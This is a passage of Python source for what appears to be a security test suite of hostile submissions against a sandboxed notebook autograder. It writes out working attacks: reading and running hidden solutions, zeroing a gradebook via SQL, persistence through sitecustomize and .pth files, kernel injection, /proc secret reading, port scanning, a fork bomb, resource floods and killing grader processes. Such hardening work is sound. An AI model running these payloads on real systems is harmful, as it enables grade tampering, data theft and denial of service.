            sys.modules.update(saved)
        finally:
            sys.path.remove(site)
    raise ImportError("no other scipy.signal on this machine")


_jobs = queue.Queue()


def _worker():
    while True:
        function, args, box = _jobs.get()
        try:
            box["value"] = function(_foreign_signal(), *args)
        except BaseException as exc:
            box["error"] = exc
        box["done"].set()


threading.Thread(target=_worker, daemon=True).start()


def _in_thread(function, *args):
    box = {"done": threading.Event()}
    _jobs.put((function, args, box))
    box["done"].wait()
    if "error" in box:
        raise box["error"]
    return box["value"]


def _delegated_forward(x, k, s):
    return _in_thread(_scipy_forward, x, k, s)


def _delegated_backward(dy, x, k, s):
    return _in_thread(_scipy_backward, dy, x, k, s)
"""

#: student -> the code that makes ``_delegated_forward``/``_delegated_backward``.
DELEGATIONS = {
    "deleg-thread": TORCH_POOL + DELEGATE_THREAD,
    "deleg-partial": DELEGATE_PARTIAL,
    "deleg-ctypes": DELEGATE_CTYPES,
    "deleg-subprocess": DELEGATE_SUBPROCESS,
    "deleg-setprofile": TORCH_POOL + DELEGATE_SETPROFILE,
    "deleg-importlib": DELEGATE_IMPORTLIB,
    "deleg-numba-source": DELEGATE_NUMBA,
    "deleg-other-site-packages": SCIPY_POOL + DELEGATE_OTHER_SITE,
}


def delegating_cell(student: str, ctx: Context) -> str:
    """The AvgPool2d cell of delegation attack ``student``."""
    return ctx.fill(DELEGATING_AVGPOOL + DELEGATIONS[student])


def _delegation(student):
    return lambda ctx: with_source(
        ctx.released(A3), "avgpool_solution", delegating_cell(student, ctx)
    )


# ---------------------------------------------------------------------------------------------
# Reading what is hidden (a3)
# ---------------------------------------------------------------------------------------------

READ_PROBE = """
def _hostile_try_read(path):
    import os
    try:
        if os.path.isdir(path):
            return "OK listed " + ", ".join(sorted(os.listdir(path))[:30])
        with open(path, "rb") as f:
            return f"OK read {len(f.read(1 << 16))} bytes"
    except Exception as exc:
        return f"ERR {type(exc).__name__}"

"""

#: What the reader tries (name -> path); none of it may be readable.
READ_TARGETS = {
    "course folder": "@@COURSE@@",
    "source notebook (solutions)": "@@COURSE@@/assignments/a3_conv_pool/conv_pool.ipynb",
    "repository's source notebook": "@@REPO@@/course/assignments/a3_conv_pool/conv_pool.ipynb",
    "repository's course folder": "@@REPO@@/course",
    "gradebook": "@@COURSE@@/gradebook.db",
    "submitted folder": "@@COURSE@@/submitted",
    "classmate's submission": "@@COURSE@@/submitted/z-solution/a3_conv_pool/conv_pool.ipynb",
    "autograded folder": "@@COURSE@@/autograded",
    "grading records": "@@COURSE@@/grading",
    "course's own checks": "@@COURSE@@/checks/tiny.py",
    "grader's checks": "@@REPO@@/grader/checks/a3_conv_pool.py",
    "grader's source": "@@REPO@@/grader",
    "grading kernelspec": "@@KERNEL_HOME@@/kernels/cvcourse-grader/kernel.json",
    "grading kernelspec folder": "@@KERNEL_HOME@@",
    "reference kernels": "@@CVCOURSE@@/kernels/conv.py",
    "reference layers": "@@CVCOURSE@@/nn/layers.py",
    "host's kernel connection files": "/root/.local/share/jupyter/runtime",
    "judge's folder": "__JUDGE_FOLDER__",
}

READ_HIDDEN = (
    REPORT
    + READ_PROBE
    + """
import json as _json
import os as _os

_targets = {_name: _path for _name, _path in @@TARGETS@@.items()}
_judge = _os.environ.get("CVCOURSE_JUDGE_SOCKET", "/nonexistent/x")
_targets["judge's folder"] = _os.path.dirname(_judge)
_found = {_name: _hostile_try_read(_path) for _name, _path in _targets.items()}
try:
    import grader

    _found["import grader"] = "OK " + str(getattr(grader, "__file__", ""))
except Exception as _exc:
    _found["import grader"] = f"ERR {type(_exc).__name__}"
_hostile_report("read", found=_found)

# What a reader does with it: run the instructor's (or a classmate's) solution cells below.
_stolen = {}
for _name in (
    "source notebook (solutions)", "repository's source notebook", "classmate's submission"
):
    try:
        with open(_targets[_name]) as _f:
            _cells = _json.load(_f)["cells"]
    except Exception:
        continue
    for _cell in _cells:
        _meta = _cell.get("metadata", {}).get("nbgrader", {})
        if _cell.get("cell_type") == "code" and _meta.get("solution"):
            _text = _cell["source"]
            _stolen[_meta.get("grade_id")] = "".join(_text) if isinstance(_text, list) else _text
    if _stolen:
        break
"""
)


def _read_hidden(ctx):
    source = READ_HIDDEN.replace("@@TARGETS@@", repr(READ_TARGETS))
    nb = insert_after(ctx.released(A3), "setup", ctx.fill(source))
    for grade_id in ("conv_helpers", "conv2d_solution", "maxpool_solution", "avgpool_solution"):
        nb = with_source(
            nb, grade_id, f'exec(_stolen.get("{grade_id}", "pass"), globals())  # a stolen solution'
        )
    return nb


# ---------------------------------------------------------------------------------------------
# Writing and persistence (tiny, untouched release + the attack: must stay 0, and change no
# one else's grade)
# ---------------------------------------------------------------------------------------------

ALL_PASS_CHECKS = (
    '__all__ = ["double", "triple"]\n\ndef double(f):\n    pass\n\ndef triple(f):\n    pass\n'
)

WRITES = (
    REPORT
    + """
import os
import sqlite3

_w = {}


def _hostile_write(name, path, data, mode="wb"):
    try:
        with open(path, mode) as f:
            f.write(data)
        _w[name] = "OK"
    except Exception as exc:
        _w[name] = f"ERR {type(exc).__name__}"


try:
    _db = sqlite3.connect("file:@@COURSE@@/gradebook.db?mode=rw", uri=True, timeout=2)
    _db.execute("UPDATE grade SET manual_score = 0")
    _db.commit()
    _db.close()
    _w["gradebook (SQL)"] = "OK"
except Exception as exc:
    _w["gradebook (SQL)"] = f"ERR {type(exc).__name__}"
_hostile_write("gradebook (bytes)", "@@COURSE@@/gradebook.db", b"", "ab")
_line = b"\\nc.Execute.timeout = 1  # @@TOKEN@@\\n"
_hostile_write("course config", "@@COURSE@@/nbgrader_config.py", _line, "ab")
_hostile_write("course's checks", "@@COURSE@@/checks/tiny.py", @@ALL_PASS@@)
_hostile_write("source notebook", "@@COURSE@@/assignments/tiny/tiny.ipynb", b"{}")
_hostile_write("released notebook", "@@COURSE@@/release/tiny/tiny.ipynb", b"{}")
_victim = "zz-victim"
_hostile_write(
    "classmate's submission", f"@@COURSE@@/submitted/{_victim}/tiny/tiny.ipynb", b'{"cells": []}'
)
_hostile_write(
    "classmate's autograded folder",
    f"@@COURSE@@/autograded/{_victim}/tiny/hostile-@@TOKEN@@.txt",
    b"x",
)
_hostile_write(
    "classmate's grading record", f"@@COURSE@@/grading/tiny/{_victim}.json", b'{"success": false}'
)
_hostile_write("new file in the course", "@@COURSE@@/hostile-@@TOKEN@@.txt", b"x")
_hostile_write("own submission (read-only copy)", "/submission/hostile-@@TOKEN@@.txt", b"x")
_hostile_report("write", wrote=_w)
"""
)

# A payload for later kernels; it acts only in this suite's victims (VICTIM_MARKER).
GUARDED_PAYLOAD = (
    'import os, sys\nif os.path.exists("/home/student/victim.marker"):\n'
    '    sys.modules["numpy"] = None  # @@TOKEN@@\n'
)
GUARDED_PTH = (
    'import os, sys; os.path.exists("/home/student/victim.marker") and '
    'sys.modules.__setitem__("numpy", None)  # @@TOKEN@@\n'
)

#: (name, path, how): "create" makes a new file (never overwrites), "open" opens an existing
#: file for writing without writing; "own" marks places the kernel may write (its private
#: home and /tmp), which must simply not outlive it.
PERSIST_TARGETS = [
    ("venv sitecustomize.py", "@@SITE@@/sitecustomize.py", "create"),
    ("venv .pth file", "@@SITE@@/hostile-@@TOKEN@@.pth", "create-pth"),
    (
        "IPython startup, own home",
        "~/.ipython/profile_default/startup/00-hostile-@@TOKEN@@.py",
        "own",
    ),
    (
        "IPython startup, grader's home",
        "/root/.ipython/profile_default/startup/00-hostile-@@TOKEN@@.py",
        "create",
    ),
    ("numba cache, own NUMBA_CACHE_DIR", "/tmp/numba/hostile-@@TOKEN@@.nbi", "own"),
    (
        "numba cache, reference kernels",
        "@@CVCOURSE@@/kernels/__pycache__/hostile-@@TOKEN@@.nbi",
        "create",
    ),
    (
        "cvcourse bytecode cache",
        "@@CVCOURSE@@/__pycache__/hostile-@@TOKEN@@.cpython-311.pyc",
        "create",
    ),
    ("new cvcourse module", "@@CVCOURSE@@/hostile_@@TOKEN@@.py", "create"),
    ("cvcourse.judge_link source", "@@CVCOURSE@@/judge_link.py", "open"),
    ("grading kernelspec", "@@KERNEL_HOME@@/kernels/cvcourse-grader/kernel.json", "open"),
    ("new kernelspec beside it", "@@KERNEL_HOME@@/kernels/hostile-@@TOKEN@@.json", "create"),
    ("user kernelspecs", "/root/.local/share/jupyter/kernels/hostile-@@TOKEN@@.json", "create"),
    ("grader's checks", "@@REPO@@/grader/checks/harness.py", "open"),
    ("new grader module", "@@REPO@@/grader/checks/hostile_@@TOKEN@@.py", "create"),
    ("repository's course config", "@@REPO@@/course/nbgrader_config.py", "open"),
    ("venv python", "@@VENV@@/bin/python", "open"),
]

PERSIST = (
    REPORT
    + """
import os

_p = {}
_PAYLOAD = @@PAYLOAD@@
_PTH = @@PTH@@


def _hostile_place(name, path, how):
    path = os.path.expanduser(path)
    try:
        if how == "open":  # an existing file, opened for writing; nothing written
            os.close(os.open(path, os.O_WRONLY | os.O_APPEND))
            _p[name] = "OK opened for writing"
            return
        if how == "own":
            os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "x") as f:
            f.write(_PTH if how == "create-pth" else _PAYLOAD)
        _p[name] = "OK created"
    except Exception as exc:
        _p[name] = f"ERR {type(exc).__name__}"


for _name, _path, _how in @@TARGETS@@:
    _hostile_place(_name, _path, _how)
_hostile_report("persist", wrote=_p)
"""
)


def _writes(ctx):
    source = WRITES.replace("@@ALL_PASS@@", repr(ALL_PASS_CHECKS.encode()))
    return insert_after(ctx.released(TINY), "setup", ctx.fill(source))


def _persist(ctx):
    source = (
        PERSIST.replace("@@PAYLOAD@@", repr(GUARDED_PAYLOAD))
        .replace("@@PTH@@", repr(GUARDED_PTH))
        .replace("@@TARGETS@@", repr(PERSIST_TARGETS))
    )
    return insert_after(ctx.released(TINY), "setup", ctx.fill(source))


# ---------------------------------------------------------------------------------------------
# Kernel injection, processes and secrets (tiny)
# ---------------------------------------------------------------------------------------------

INJECT = (
    REPORT
    + """
import json
import os
import socket
import time


def _hostile_scan():
    own_file = own_dir = None
    try:
        from ipykernel import get_connection_file

        own_file = os.path.realpath(get_connection_file())
        own_dir = os.path.dirname(own_file)
    except Exception:
        pass
    judge = os.environ.get("CVCOURSE_JUDGE_SOCKET", "")
    files, dirs, sockets = set(), set(), set()
    tops = ("/dev/shm", "/tmp", "/run", "/var/tmp", "/root/.local/share/jupyter/runtime",
            os.path.expanduser("~/.local/share/jupyter/runtime"))
    for top in tops:
        for root, subdirs, names in os.walk(top):
            if root.count(os.sep) - top.count(os.sep) >= 2:
                subdirs[:] = []
            for name in subdirs:
                path = os.path.join(root, name)
                mine = (own_dir, os.path.dirname(judge))
                if ("kernel" in name or "judge" in name) and path not in mine:
                    dirs.add(path)
            for name in names:
                path = os.path.join(root, name)
                if own_dir and (path == own_file or path.startswith(own_dir + "/")):
                    continue
                if name.endswith(".json") and "kernel" in name:
                    files.add(path)
                if name.startswith("ipc") or name.endswith(".sock"):
                    if path != judge:
                        sockets.add(path)
    return files, dirs, sockets


_found = {"files": set(), "dirs": set(), "sockets": set()}
_executed, _judges = {}, {}
_ports = {22, 80, 443, 5000, 8000, 8080, 8888, 8889}
_until = time.monotonic() + 4
while time.monotonic() < _until:
    _files, _dirs, _sockets = _hostile_scan()
    _found["files"] |= _files
    _found["dirs"] |= _dirs
    _found["sockets"] |= _sockets
    for _path in _files - set(_executed):
        try:
            with open(_path) as _f:
                _info = json.load(_f)
            _ports.update(v for k, v in _info.items() if k.endswith("_port") and isinstance(v, int))
            from jupyter_client import BlockingKernelClient

            _client = BlockingKernelClient(connection_file=_path)
            _client.load_connection_file()
            _client.start_channels()
            _client.execute("1 + 1")
            _reply = _client.get_shell_msg(timeout=3)
            _executed[_path] = "OK " + _reply["content"]["status"]
            _client.stop_channels()
        except Exception as _exc:
            _executed[_path] = f"ERR {type(_exc).__name__}"
    for _path in _sockets - set(_judges):
        try:
            _s = socket.socket(socket.AF_UNIX)
            _s.settimeout(1)
            _s.connect(_path)
            _judges[_path] = "OK connected"
            _s.close()
        except Exception as _exc:
            _judges[_path] = f"ERR {type(_exc).__name__}"
    time.sleep(0.5)

def _own_listeners():
    inodes = set()
    for fd in os.listdir("/proc/self/fd"):
        try:
            link = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue
        if link.startswith("socket:["):
            inodes.add(link[8:-1])
    ports = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            with open(table) as f:
                rows = f.read().splitlines()[1:]
        except OSError:
            continue
        for row in rows:
            fields = row.split()
            if fields[3] == "0A" and fields[9] in inodes:  # listening, and ours
                ports.add(int(fields[1].rsplit(":", 1)[1], 16))
    return ports


_open_ports, _errors = [], set()
for _port in list(range(1, 65536)):
    _s = socket.socket()
    _s.settimeout(0.05)
    try:
        _s.connect(("127.0.0.1", _port))
        if _s.getsockname() != _s.getpeername():  # not TCP's self-connect on an ephemeral port
            _open_ports.append(_port)
    except OSError as _exc:
        _errors.add(type(_exc).__name__)
    finally:
        _s.close()
    if _port > 2000 and not _open_ports and "TimeoutError" in _errors:
        break  # no answer at all: a dead network, no need to wait on every port
_own = _own_listeners()
_hostile_report(
    "inject",
    tcp_own_listeners=sorted(_own),
    tcp_foreign=[p for p in _open_ports if p not in _own],
    files=sorted(_found["files"]),
    dirs=sorted(_found["dirs"]),
    sockets=sorted(_found["sockets"]),
    executed=_executed,
    connected=_judges,
    tcp_open=_open_ports,
    tcp_errors=sorted(_errors),
)
"""
)

PROC_ENV = (
    REPORT
    + """
import os

_secret = "@@TOKEN@@"
_procs = {}
for _pid in sorted((p for p in os.listdir("/proc") if p.isdigit()), key=int):
    _entry = {}
    try:
        with open(f"/proc/{_pid}/cmdline", "rb") as _f:
            _entry["cmd"] = _f.read().replace(b"\\0", b" ").decode(errors="replace")[:160]
    except Exception as _exc:
        _entry["cmd"] = f"ERR {type(_exc).__name__}"
    try:
        with open(f"/proc/{_pid}/environ", "rb") as _f:
            _entry["environ"] = "OK" + (" with the secret" if _secret.encode() in _f.read() else "")
    except Exception as _exc:
        _entry["environ"] = f"ERR {type(_exc).__name__}"
    for _what in ("root", "cwd"):
        try:
            _entry[_what] = "OK " + ", ".join(sorted(os.listdir(f"/proc/{_pid}/{_what}"))[:8])
        except Exception as _exc:
            _entry[_what] = f"ERR {type(_exc).__name__}"
    _procs[_pid] = _entry
_hostile_report(
    "proc-env",
    env=sorted(os.environ),
    secret_in_env=any(_secret in v for v in os.environ.values()),
    secret_variable="@@SECRET_VARIABLE@@" in os.environ,
    processes=_procs,
)
"""
)

# ---------------------------------------------------------------------------------------------
# Processes that linger, floods, crashes (tiny, solved: the parts that ran keep their points)
# ---------------------------------------------------------------------------------------------

LINGER = (
    REPORT
    + """
import os
import signal
import subprocess
import sys

_SLEEPER = (
    "import signal, time\\n"
    "for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):\\n"
    "    signal.signal(s, signal.SIG_IGN)\\n"
    "time.sleep(3600)\\n"
)
_pid = os.fork()
if _pid == 0:  # a double-forked daemon in a session of its own
    try:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", _SLEEPER, "@@TOKEN@@-daemon"])
    finally:
        os._exit(0)
os.waitpid(_pid, 0)
os.system("nohup sh -c 'sleep 3600; echo @@TOKEN@@-nohup' >/dev/null 2>&1 &")
subprocess.Popen(
    [sys.executable, "-c", _SLEEPER, "@@TOKEN@@-session"],
    start_new_session=True,
    stdin=subprocess.DEVNULL,
    stdout=subprocess.DEVNULL,
    stderr=subprocess.DEVNULL,
)
_hostile_report("linger", started=3)
"""
)

DISK_FLOOD = (
    REPORT
    + """
import os

try:
    from ipykernel import get_connection_file

    _kernel_dir = os.path.dirname(get_connection_file())
except Exception:
    _kernel_dir = None
_places = {"/tmp": ("/tmp", 2 << 30), "home": (os.path.expanduser("~"), 2 << 30),
           "/dev/shm": ("/dev/shm", 2 << 30)}
if _kernel_dir:
    _places["kernel folder"] = (_kernel_dir, 1 << 30)
_chunk = b"\\0" * (16 << 20)
_written = {}
for _name, (_folder, _limit) in _places.items():
    _total, _files, _error = 0, [], None
    try:
        while _total < _limit:
            _path = os.path.join(_folder, f"flood-{len(_files)}.bin")
            _files.append(_path)
            _fd = os.open(_path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
            try:
                for _ in range(8):  # 128 MiB per file
                    _total += os.write(_fd, _chunk)
            finally:
                os.close(_fd)
    except OSError as _exc:
        _error = f"{type(_exc).__name__} {_exc.errno}"
    for _path in _files:
        try:
            os.remove(_path)
        except OSError:
            pass
    _written[_name] = {"bytes": _total, "error": _error}
_hostile_report("disk", written=_written)
"""
)

OUTPUT_FLOOD = """
import sys

from IPython.display import HTML, display

sys.stdout.write("x" * (100 << 20) + "\\n")  # one 100 MiB line
sys.stdout.flush()
for _i in range(20000):
    print(_i, flush=True)
for _i in range(2000):
    display(HTML(f"<b>{_i}</b>"))
"""

THREAD_FLOOD = (
    REPORT
    + """
import threading

_stop = threading.Event()
_threads, _error = [], None
try:
    while len(_threads) < 20000:
        _t = threading.Thread(target=_stop.wait, daemon=True)
        _t.start()
        _threads.append(_t)
except Exception as _exc:
    _error = f"{type(_exc).__name__}: {_exc}"
_count = len(_threads)
_stop.set()
for _t in _threads:
    _t.join()
_hostile_report("threads", started=_count, error=_error)
"""
)

FORK_COUNT = (
    REPORT
    + """
import os
import time

_pids, _error = [], None
try:
    while len(_pids) < 20000:
        _pid = os.fork()
        if _pid == 0:
            time.sleep(3)
            os._exit(0)
        _pids.append(_pid)
except OSError as _exc:
    _error = f"{type(_exc).__name__}: {_exc}"
for _pid in _pids:
    os.waitpid(_pid, 0)
_hostile_report("forks", started=len(_pids), error=_error)
"""
)

FORK_BOMB = """
# Every process forks forever, none listens to SIGINT.
import os
import signal
import time

signal.signal(signal.SIGINT, signal.SIG_IGN)
print("bomb from uid", os.getuid(), flush=True)
while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.05)
"""

MEMORY = (
    REPORT
    + """
import os
import time

import numpy as np

_single = {}
try:
    _big = np.ones(2**30)  # 8 GiB at once
    _single["8 GiB"] = "allocated"
    del _big
except MemoryError:
    _single["8 GiB"] = "MemoryError"
_blocks = []
try:
    while len(_blocks) < 1024:
        _blocks.append(bytearray(64 << 20))
except MemoryError:
    pass
_single["grew to MiB"] = 64 * len(_blocks)
del _blocks

# Across children: six children hold 512 MiB each (3 GiB together), at the same time.
_pids = []
for _k in range(6):
    _pid = os.fork()
    if _pid == 0:
        try:
            with open("/proc/self/oom_score_adj", "w") as _f:
                _f.write("1000")  # if something must be killed, let it be a child
        except OSError:
            pass
        try:
            _a = np.ones(2**26)  # 512 MiB, every page touched
            time.sleep(4)
            os._exit(0)
        except MemoryError:
            os._exit(3)
    _pids.append(_pid)
_children = []
for _pid in _pids:
    _status = os.waitpid(_pid, 0)[1]
    if os.WIFSIGNALED(_status):
        _children.append(f"killed by signal {os.WTERMSIG(_status)}")
    else:
        _children.append(f"exit {os.WEXITSTATUS(_status)}")
_hostile_report("memory", single=_single, children=_children)
"""
)

KILL_PARENT = (
    REPORT
    + """
import os
import signal

_kills = {}
try:
    os.kill(os.getppid(), signal.SIGKILL)
    _kills["parent"] = f"OK killed {os.getppid()}"
except OSError as _exc:
    _kills["parent"] = f"ERR {type(_exc).__name__}"
for _pid in (p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()):
    try:
        with open(f"/proc/{_pid}/cmdline", "rb") as _f:
            _cmd = _f.read()
    except OSError:
        continue
    _words = (b"spawn_main", b"grader", b"nbgrader", b"pytest", b"bwrap", b"jupyter")
    if any(word in _cmd for word in _words):
        try:
            os.kill(int(_pid), signal.SIGKILL)
            _kills[_pid] = "OK killed " + _cmd[:80].decode(errors="replace")
        except OSError as _exc:
            _kills[_pid] = f"ERR {type(_exc).__name__} " + _cmd[:80].decode(errors="replace")
_hostile_report("kill", kills=_kills)
"""
)

SIGINT_LOOP = """
import signal

signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    pass
"""

EXIT_IN_CALL = """
def triple(x):
    import os

    os._exit(3)  # when the grader calls it
"""

PROTOCOL_STRIDES = """
# Answer the array case with an array whose strides overflow numpy's bounds check: reading
# it walks 2**63 bytes before its buffer (in whichever process decodes it).
import cvcourse.judge_link as _jl

_real_encode = _jl._KernelServer._encode_result


def _forged(self, value, call_arrays):
    if call_arrays and call_arrays[0].shape == (3,):
        index = len(self.blobs)
        self.blobs.append(b"\\0" * 8)
        return {"$nd": index, "dtype": "<f8", "shape": [3], "strides": [-(2**63)], "offset": 0}
    return _real_encode(self, value, call_arrays)


_jl._KernelServer._encode_result = _forged
"""

PROTOCOL_SPAM = """
# From a thread: connect to the judge again and again, with garbage, oversized headers,
# hellos for the wrong part, and connections outside any graded cell.
import json
import os
import socket
import struct
import threading
import time

_path = os.environ.get("CVCOURSE_JUDGE_SOCKET", "")


def _message(header):
    data = json.dumps(header).encode()
    return struct.pack("!II", len(data), 0) + data


def _spam():
    n = 0
    until = time.monotonic() + 60
    while time.monotonic() < until:
        n += 1
        try:
            s = socket.socket(socket.AF_UNIX)
            s.settimeout(0.5)
            s.connect(_path)
            payload = [
                b"\\xff" * 64,
                struct.pack("!II", 2**31, 2**20),
                _message({"kind": "hello", "part": "no_such_part", "roots": {"$list": []}}),
                _message({"kind": "hello", "part": "../../etc/passwd", "roots": {"$list": []}}),
                _message({"kind": "reply", "value": 1}),
            ][n % 5]
            s.sendall(payload)
            s.close()
        except OSError:
            pass
        time.sleep(0.02)


threading.Thread(target=_spam, daemon=True).start()
"""


def _meta_edit(edit):
    def build(ctx):
        nb = ctx.solution(TINY)
        edit(nb)
        return nb

    return build


def _set_points(nb):
    cell(nb, "test_double").metadata["nbgrader"]["points"] = 100


def _swap_grade_ids(nb):
    double, triple = cell(nb, "test_double"), cell(nb, "test_triple")
    double.metadata["nbgrader"]["grade_id"] = "test_triple"
    triple.metadata["nbgrader"]["grade_id"] = "test_double"


def _duplicate_test(nb):
    index = _index(nb, "test_double")
    nb.cells.insert(_index(nb, "triple_impl") + 1, copy.deepcopy(nb.cells[index]))


def _reflag_test(nb):
    meta = cell(nb, "test_double").metadata["nbgrader"]
    meta.update(solution=True, locked=False)


def _new_graded_cell(nb):
    forged = _code('from cvcourse.judge_link import hand_over\n\nhand_over("double", double)', 99)
    forged.metadata["nbgrader"] = {
        "grade": True,
        "solution": False,
        "locked": True,
        "grade_id": "test_bonus",
        "points": 100,
        "schema_version": 3,
        "task": False,
    }
    nb.cells.insert(_index(nb, "test_double") + 1, forged)


def _bogus_kernelspec(ctx):
    nb = ctx.solution(TINY)
    nb.metadata["kernelspec"] = {
        "name": "hostile",
        "display_name": "hostile",
        "language": "python",
        "argv": ["/bin/sh", "-c", f"touch /tmp/hostile-kernelspec-{ctx.token}"],
    }
    nb.metadata["language_info"] = {"name": "shell"}
    return nb


def _non_utf8(ctx):
    text = _bytes(ctx.solution(TINY))
    return text.replace(b"return 2 * x", b"return 2 * x  # \xe9t\xe9 \xff")


def _huge_cell(ctx):
    # At the end: under load the kernel needs more than the 20 s timeout to compile 50 MB,
    # which would cost the parts after it; here only the pipeline's survival is at stake.
    return append(ctx.solution(TINY), "# " + "x" * 50_000_000)


def _solved_tiny_with(grade_id: str, source: str):
    return lambda ctx: with_source(ctx.solution(TINY), grade_id, ctx.fill(source))


VICTIM = ((VICTIM_MARKER, "a later submission"),)

# ---------------------------------------------------------------------------------------------
# The class
# ---------------------------------------------------------------------------------------------

_KERNEL_DIED = r"kernel died"
_RESTORED = r"metadata was changed|restored"
_EARNS_NOTHING = r"earns nothing"
_BLOCKED = (
    r"ImportError|FileNotFoundError|ModuleNotFoundError|not available|No module|No such file"
    r"|called (torch|scipy|cvcourse)"
)

ATTACKS: list[Attack] = [
    # -- correct submissions (a3), graded after the tiny batch's attackers ------------------
    Attack(
        "z-solution",
        A3,
        CORRECT,
        "the instructor's solution pasted into the release",
        _solution(A3),
        files=VICTIM,
    ),
    Attack(
        "z-honest-stderr-tqdm",
        A3,
        CORRECT,
        "solution printing to stderr, a tqdm bar and a warning inside forward/backward",
        _honest_stderr,
        files=VICTIM,
    ),
    Attack(
        "z-honest-float32",
        A3,
        CORRECT,
        "solution computing in float32 throughout",
        _honest_float32,
        files=VICTIM,
    ),
    Attack(
        "z-honest-loops",
        A3,
        CORRECT,
        "own style: a loop over kernel taps with einsum per tap, loop-based pooling",
        _honest_loops,
        files=VICTIM,
    ),
    # -- the untouched release: the baseline every blank attack is compared with ---------
    Attack(
        "blank",
        A3,
        "baseline",
        "the released notebook, untouched",
        _blank(A3),
        ALL,
        "nothing to grade",
    ),
    # -- module patching ------------------------------------------------------------------
    Attack(
        "patch-hand-over",
        A3,
        "module patching",
        "replaces cvcourse.judge_link.hand_over with one that prints a pass",
        _blank_with(A3, "setup", PATCH_HAND_OVER),
        ALL,
        "the judge never heard from the kernel: 'not graded'",
        messages=(("test_conv2d_forward", "never handed"),),
    ),
    Attack(
        "fake-kernel-server",
        A3,
        "module patching",
        "patches _KernelServer to answer the judge with zero arrays and swallow errors",
        _blank_with(A3, "setup", FAKE_KERNEL_SERVER),
        ALL,
        "the judge compares the numbers it gets with its own references",
    ),
    Attack(
        "patch-numpy-grader",
        A3,
        "module patching",
        "np.allclose/np.testing always pass, fake grader and torch modules in sys.modules",
        _blank_with(A3, "setup", PATCH_NUMPY_AND_GRADER),
        ALL,
        "the checks run in the judge's process, not the kernel's",
    ),
    # -- IPython hooks --------------------------------------------------------------------
    Attack(
        "ipython-swallow",
        A3,
        "IPython hooks",
        "set_custom_exc swallowing everything, an input transformer rewriting hidden tests",
        _blank_with(A3, "setup", IPYTHON_SWALLOW),
        ALL,
        "scores come from the judge's record, not from the cell's outcome",
    ),
    Attack(
        "ipython-events",
        A3,
        "IPython hooks",
        "post_run_cell clearing errors, an AST transformer dropping hand_over, "
        "sys.excepthook, atexit",
        _blank_with(A3, "setup", IPYTHON_EVENTS),
        ALL,
        "scores come from the judge's record, not from the cell's outcome",
    ),
    # -- returned objects that lie --------------------------------------------------------
    Attack(
        "lying-results",
        A3,
        "exception swallowing / lying results",
        "results equal to anything: __eq__ overrides, masked, NaN, zero-stride, input views",
        _lying,
        ALL,
        "arrays cross by value; the judge compares them itself",
    ),
    # -- delegation (AvgPool2d in an otherwise untouched release) --------------------------
    *[
        Attack(
            student,
            A3,
            "delegation",
            does,
            _delegation(student),
            ALL,
            stopped,
            messages=(("test_avgpool_forward", _BLOCKED),),
        )
        for student, does, stopped in [
            (
                "deleg-thread",
                "torch from a thread started before grading",
                "torch is not importable in the sandbox",
            ),
            (
                "deleg-partial",
                "torch through functools.partial",
                "torch is not importable in the sandbox",
            ),
            (
                "deleg-ctypes",
                "libtorch via ctypes.CDLL, torch imported and called via the C API",
                "torch is not on the sandbox's disk",
            ),
            (
                "deleg-subprocess",
                "another Python interpreter (this one's or any on the machine) "
                "with torch or scipy.signal",
                "torch/scipy.signal are not importable in the sandbox",
            ),
            (
                "deleg-setprofile",
                "sys.setprofile(None) around a torch call",
                "torch is not importable in the sandbox",
            ),
            (
                "deleg-importlib",
                "cvcourse.kernels imported a second time from its file path",
                "the reference kernels are not on the sandbox's disk",
            ),
            (
                "deleg-numba-source",
                "cvcourse.kernels' numba source read from disk and compiled",
                "the reference kernels are not on the sandbox's disk",
            ),
            (
                "deleg-other-site-packages",
                "scipy.signal from another Python's site-packages, "
                "imported into the kernel, called from a thread",
                "no other scipy on the sandbox's disk",
            ),
        ]
    ],
    # -- reading what is hidden ------------------------------------------------------------
    Attack(
        "read-hidden",
        A3,
        "reading what is hidden",
        "reads the solutions, hidden checks, gradebook, classmates, kernelspec, judge folder; "
        "runs any solution it finds",
        _read_hidden,
        ALL,
        "none of it is in the sandbox (no course, no grader, private /tmp)",
    ),
    # == tiny ================================================================================
    Attack("t-solution", TINY, CORRECT, "the solution", _solution(TINY)),
    Attack(
        "t-writes",
        TINY,
        "writing",
        "writes the gradebook (SQL), course config and checks, "
        "source and release, a classmate's submission, autograded folder and record",
        _writes,
        ALL,
        "the course is not in the sandbox",
    ),
    Attack(
        "t-persists",
        TINY,
        "persistence",
        "sitecustomize.py/.pth in the venv, IPython "
        "startup files, numba caches, kernelspecs, grader and cvcourse sources",
        _persist,
        ALL,
        "read-only system and venv; private home and /tmp per kernel",
    ),
    Attack(
        "t-injects",
        TINY,
        "kernel injection",
        "looks for other kernels' connection files, "
        "ipc sockets and judges, executes code in any it finds, scans 127.0.0.1",
        _blank_with(TINY, "setup", INJECT),
        ALL,
        "private /tmp and /dev/shm, no network",
    ),
    Attack(
        "t-proc-env",
        TINY,
        "reading what is hidden",
        "reads /proc of every process it "
        "sees (cmdline, environ, root, cwd) and its environment for the grader's secret",
        _blank_with(TINY, "setup", PROC_ENV),
        ALL,
        "own PID namespace, cleared environment",
    ),
    Attack(
        "t-lingers",
        TINY,
        "lingering processes",
        "a double-forked daemon, a nohup child and a new session, all ignoring SIGTERM/SIGHUP",
        _solution_with(TINY, None, LINGER),
        (),
        "PID namespace, the kernel's uid and cgroup killed at the end",
    ),
    Attack(
        "t-disk-flood",
        TINY,
        "floods",
        "2 GiB each to /tmp, home, /dev/shm and 1 GiB to the kernel's folder",
        _solution_with(TINY, "test_double", DISK_FLOOD),
        (),
        "size-limited tmpfs and RLIMIT_FSIZE",
    ),
    Attack(
        "t-output-flood",
        TINY,
        "floods",
        "one 100 MiB line, 20000 prints, 2000 displays",
        _solution_with(TINY, "test_double", OUTPUT_FLOOD),
        (),
        "output capped in bytes",
    ),
    Attack(
        "t-thread-flood",
        TINY,
        "floods",
        "threads until none can start",
        _solution_with(TINY, "test_double", THREAD_FLOOD),
        (),
        "pids cgroup, RLIMIT_NPROC/AS",
